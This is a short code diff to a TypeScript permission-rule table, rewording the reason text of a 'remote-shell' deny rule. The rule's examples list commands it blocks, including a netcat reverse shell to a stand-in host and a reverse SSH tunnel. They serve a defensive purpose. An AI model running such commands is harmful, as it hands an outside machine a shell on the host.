@@ -32,7 +32,7 @@ export const REACH_RULES: Readonly<Record<ReachRule, Rule>> = {
   },
   "remote-shell": {
     decision: "deny",
-    reason: "This gives somebody else a shell or a way into this machine.",
+    reason: "This gives another machine a shell on this one, or a way in.",
     examples: {
       caught: ["nc -e /bin/sh x.example 1", "ssh -R 22:localhost:22 x.example"],
       fine: ["nc -z localhost 80"],
